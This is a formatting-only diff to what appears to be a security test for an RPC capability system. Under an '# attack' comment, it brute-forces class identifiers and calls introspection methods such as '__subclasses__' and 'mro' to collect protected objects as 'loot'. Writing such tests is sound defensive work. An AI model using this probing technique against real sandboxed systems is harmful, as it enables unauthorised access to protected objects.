@@ -12,7 +12,11 @@ Note("t").text == "" and Colour("red") is Colour.RED
 # attack
 client_class = type(vault.client)._toolwright_class
 loot = []
-for number in {VAULT_CLASS, client_class, BOOKS_CLASS, *range(-60, 0)} - {Note._toolwright_class, Colour._toolwright_class, Refused._toolwright_class}:
+for number in {VAULT_CLASS, client_class, BOOKS_CLASS, *range(-60, 0)} - {
+    Note._toolwright_class,
+    Colour._toolwright_class,
+    Refused._toolwright_class,
+}:
     for tree in ({"t": []}, {"t": ["x"]}, {"t": ["x", "y"]}, {"t": [{"h": VAULT}]}):
         fine, found = ask("new", number, "", tree)
         loot += [[number, found]] if fine else []
@@ -20,7 +24,12 @@ for number in {VAULT_CLASS, client_class, BOOKS_CLASS, *range(-60, 0)} - {Note._
         loot += [[number, found]] if fine else []
     fine, found = ask("call", VAULT, "echo", {"t": [{"c": number}]})
     loot += [[number, found]] if fine else []
-    loot += [[number, found] for name in ("mro", "__subclasses__", "__init__") for fine, found in [ask("call", number, name)] if fine]
+    loot += [
+        [number, found]
+        for name in ("mro", "__subclasses__", "__init__")
+        for fine, found in [ask("call", number, name)]
+        if fine
+    ]
 for cls in (type(vault), type(vault.client)):
     try:
         loot.append(repr(cls("x")))
